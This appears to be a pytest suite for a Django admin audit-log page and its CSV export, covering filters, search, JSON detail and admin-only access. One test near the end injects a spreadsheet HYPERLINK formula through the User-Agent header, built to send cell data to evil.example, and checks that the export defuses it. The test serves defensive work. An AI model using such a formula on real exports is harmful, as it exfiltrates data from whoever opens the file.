"""«Auditas»: read-only list, period presets, filters, search, detail with JSON, CSV export (ui.md §3.9)."""

import csv
import io
import uuid
from datetime import timedelta

import pytest
from django.utils import timezone

from vejapro.core.models import AuditLog
from vejapro.core.spreadsheet import spreadsheet_safe

LIST_URL = "/admin/core/auditlog/"
EXPORT_URL = "/admin/core/auditlog/eksportas/"
HEADER = [
    "timestamp",
    "entity_type",
    "entity_id",
    "action",
    "actor_type",
    "actor_id",
    "ip_address",
    "user_agent",
    "old_value",
    "new_value",
    "metadata",
]


def _row(action: str, *, days_ago: float = 0, entity_id=None, **fields) -> AuditLog:
    return AuditLog.objects.create(
        entity_type=fields.pop("entity_type", "project"),
        entity_id=entity_id or uuid.uuid4(),
        action=action,
        actor_type=fields.pop("actor_type", "ADMIN"),
        actor_id=fields.pop("actor_id", "admin-1"),
        timestamp=timezone.now() - timedelta(days=days_ago),
        **fields,
    )


def _export(client, **params) -> tuple[object, list[list[str]]]:
    response = client.get(EXPORT_URL, params)
    body = b"".join(response.streaming_content).decode("utf-8")
    return response, list(csv.reader(io.StringIO(body)))


@pytest.mark.django_db
def test_period_presets_default_to_seven_days(admin_client):
    _row("RECENT_ACTION", days_ago=0.1)
    _row("WEEK_OLD_ACTION", days_ago=3)
    _row("MONTH_OLD_ACTION", days_ago=20)
    _row("ANCIENT_ACTION", days_ago=90)

    def listed(**params) -> set[str]:
        html = admin_client.get(LIST_URL, params).content.decode()
        return {name for name in ("RECENT", "WEEK_OLD", "MONTH_OLD", "ANCIENT") if f"{name}_ACTION" in html}

    assert listed() == {"RECENT", "WEEK_OLD"}
    assert listed(laikotarpis="24h") == {"RECENT"}
    assert listed(laikotarpis="30d") == {"RECENT", "WEEK_OLD", "MONTH_OLD"}
    assert listed(laikotarpis="all") == {"RECENT", "WEEK_OLD", "MONTH_OLD", "ANCIENT"}
    html = admin_client.get(LIST_URL).content.decode()
    for label in ("Laikotarpis", "24 val.", "7 dienos", "30 dienų", "Visi", "Objekto tipas", "Vykdytojo tipas"):
        assert label in html
    for column in ("Laiko žyma", "Veiksmas", "Objektas", "Objekto ID", "Vykdytojas", "Vykdytojo ID", "IP"):
        assert column in html


@pytest.mark.django_db
def test_search_by_entity_id_actor_id_or_action(admin_client):
    target = uuid.uuid4()
    _row("STATUS_CHANGE", entity_id=target)
    _row("PAYMENT_VOIDED", actor_id="kitas-vykdytojas")
    _row("USER_CREATED", entity_type="user")

    by_entity = admin_client.get(LIST_URL, {"q": str(target)}).content.decode()
    by_actor = admin_client.get(LIST_URL, {"q": "kitas-vykdytojas"}).content.decode()
    by_action = admin_client.get(LIST_URL, {"q": "user_created"}).content.decode()

    assert "STATUS_CHANGE" in by_entity
    assert "PAYMENT_VOIDED" not in by_entity
    assert "PAYMENT_VOIDED" in by_actor
    assert "STATUS_CHANGE" not in by_actor
    assert "USER_CREATED" in by_action
    assert "STATUS_CHANGE" not in by_action


@pytest.mark.django_db
def test_action_group_and_type_filters(admin_client):
    _row("PAYMENT_VOIDED", entity_type="payment")
    _row("RATE_LIMIT_BLOCKED", entity_type="system", actor_type="SYSTEM")

    payments = admin_client.get(LIST_URL, {"veiksmas": "mokejimai"}).content.decode()
    system = admin_client.get(LIST_URL, {"vykdytojas": "SYSTEM"}).content.decode()

    assert "PAYMENT_VOIDED" in payments
    assert "RATE_LIMIT_BLOCKED" not in payments
    assert "RATE_LIMIT_BLOCKED" in system
    assert "PAYMENT_VOIDED" not in system


@pytest.mark.django_db
def test_actions_show_their_label_with_the_stored_name_on_hover(admin_client):
    row = _row("CERTIFY_PROJECT")
    _row("LEGACY_ACTION")

    listing = admin_client.get(LIST_URL).content.decode()
    detail = admin_client.get(f"{LIST_URL}{row.pk}/change/").content.decode()

    assert '<span title="CERTIFY_PROJECT">Projektas sertifikuotas</span>' in listing
    assert '<span title="LEGACY_ACTION">LEGACY_ACTION</span>' in listing
    assert '<span title="CERTIFY_PROJECT">Projektas sertifikuotas</span>' in detail


@pytest.mark.django_db
def test_error_pill_counts_failures_in_the_filtered_rows(admin_client):
    _row("SMS_CONFIRMATION_FAILED")
    _row("EMAIL_CONFIRMATION_INVALID_TOKEN")
    _row("RATE_LIMIT_BLOCKED")
    _row("STATUS_CHANGE")

    html = admin_client.get(LIST_URL).content.decode()

    assert "Patikrinti 3 klaidas" in html


@pytest.mark.django_db
def test_detail_shows_pretty_json_with_copy_buttons(admin_client):
    row = _row(
        "STATUS_CHANGE", old_value={"status": "DRAFT"}, new_value={"status": "PAID"}, metadata={"vardas": "Ąžuolas"}
    )

    html = admin_client.get(f"/admin/core/auditlog/{row.pk}/change/").content.decode()

    assert "&quot;status&quot;: &quot;PAID&quot;" in html
    assert "Ąžuolas" in html
    assert html.count("Kopijuoti JSON") == 3
    assert 'name="_save"' not in html


@pytest.mark.django_db
def test_csv_export_has_the_api_columns_and_respects_filters(admin_client):
    entity = uuid.uuid4()
    _row(
        "STATUS_CHANGE",
        entity_id=entity,
        old_value={"status": "DRAFT"},
        new_value={"status": "PAID"},
        metadata={"pastaba": "Žalia veja"},
        ip_address="10.0.0.7",
        user_agent="Mozilla/5.0",
    )
    _row("PAYMENT_VOIDED", entity_type="payment", metadata=None)
    _row("ANCIENT_ACTION", days_ago=90)

    response, rows = _export(admin_client, objektas="project")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=audit_")
    assert response["X-Has-More"] == "false"
    assert rows[0] == HEADER
    assert len(rows) == 2
    timestamp, entity_type, entity_id, action, actor_type, actor_id, ip, agent, old, new, meta = rows[1]
    assert timestamp.endswith("+00:00")
    assert (entity_type, entity_id, action, actor_type, actor_id) == (
        "project",
        str(entity),
        "STATUS_CHANGE",
        "ADMIN",
        "admin-1",
    )
    assert (ip, agent) == ("10.0.0.7", "Mozilla/5.0")
    assert (old, new, meta) == ('{"status":"DRAFT"}', '{"status":"PAID"}', '{"pastaba":"Žalia veja"}')

    _response, everything = _export(admin_client, laikotarpis="all")
    assert [row[3] for row in everything[1:]] == ["PAYMENT_VOIDED", "STATUS_CHANGE", "ANCIENT_ACTION"]
    voided = next(row for row in everything if row[3] == "PAYMENT_VOIDED")
    assert voided[10] == ""


@pytest.mark.django_db
def test_csv_export_limit_and_has_more(admin_client):
    for number in range(3):
        _row(f"ACTION_{number}", days_ago=number / 100)

    response, rows = _export(admin_client, limit="10000")
    assert len(rows) == 4
    assert response["X-Has-More"] == "false"

    from vejapro.core.audit.selectors import audit_csv_export

    queryset = AuditLog.objects.all()
    export = audit_csv_export(queryset=queryset, limit=2)
    lines = list(csv.reader(io.StringIO("".join(export.lines))))
    assert export.has_more is True
    assert [row[3] for row in lines[1:]] == ["ACTION_0", "ACTION_1"]


@pytest.mark.django_db
def test_export_form_carries_the_current_filters(admin_client):
    _row("STATUS_CHANGE")

    html = admin_client.get(LIST_URL, {"laikotarpis": "30d", "objektas": "project"}).content.decode()

    assert 'action="/admin/core/auditlog/eksportas/"' in html
    assert '<input type="hidden" name="laikotarpis" value="30d">' in html
    assert '<input type="hidden" name="objektas" value="project">' in html
    for limit, label in (("10000", "10\u00a0000"), ("50000", "50\u00a0000"), ("100000", "100\u00a0000")):
        assert f'<option value="{limit}">{label}</option>' in html
    assert "Eksportuoti CSV" in html


@pytest.mark.django_db
def test_project_audit_link_filters_by_entity(admin_client):
    entity = uuid.uuid4()
    _row("STATUS_CHANGE", entity_id=entity, days_ago=40)
    _row("PAYMENT_VOIDED")

    html = admin_client.get(LIST_URL, {"objekto_id": str(entity), "laikotarpis": "all"}).content.decode()

    assert "STATUS_CHANGE" in html
    assert "PAYMENT_VOIDED" not in html


@pytest.mark.django_db
def test_export_is_for_admins_only(client, expert_user):
    client.force_login(expert_user)

    assert client.get(EXPORT_URL).status_code == 302


@pytest.mark.django_db
def test_csv_export_neutralises_a_formula_sent_by_an_anonymous_caller(admin_client, api):
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Spausk")'
    created = api().post_json("/api/v1/projects", {"name": "Jonas"}, HTTP_USER_AGENT=formula)
    assert created.status_code == 201

    response, rows = _export(admin_client)

    assert response.status_code == 200
    [row] = [row for row in rows[1:] if row[3] == "PROJECT_CREATED"]
    assert row[7] == "'" + formula
    assert row[2] == created.json()["id"]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+370", "'+370"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Mozilla/5.0", "Mozilla/5.0"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(text, written):
    assert spreadsheet_safe(text) == written
